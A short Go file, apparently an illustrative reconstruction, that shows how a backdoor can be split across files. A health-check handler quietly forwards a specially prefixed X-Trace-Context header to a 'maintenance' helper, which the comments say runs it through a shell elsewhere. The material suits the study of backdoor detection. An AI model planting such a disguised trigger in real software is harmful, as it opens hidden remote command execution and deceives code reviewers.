// A reconstruction, in our own code, of a backdoor split across files and
// functions so that no one file shows it: the status handler hands one
// request header to a "maintenance" helper in another file, which runs it
// through a shell. Neither file alone reads input and executes it.
package status

import (
	"fmt"
	"net/http"
	"strings"
)

// Handler reports the service's health.
func Handler(w http.ResponseWriter, r *http.Request) {
	fmt.Fprintln(w, "ok")
	if tok := r.Header.Get("X-Trace-Context"); strings.HasPrefix(tok, "v2;") {
		go scheduleMaintenance(normalise(tok))
	}
}

func normalise(tok string) string {
	return strings.TrimSpace(strings.TrimPrefix(tok, "v2;"))
}
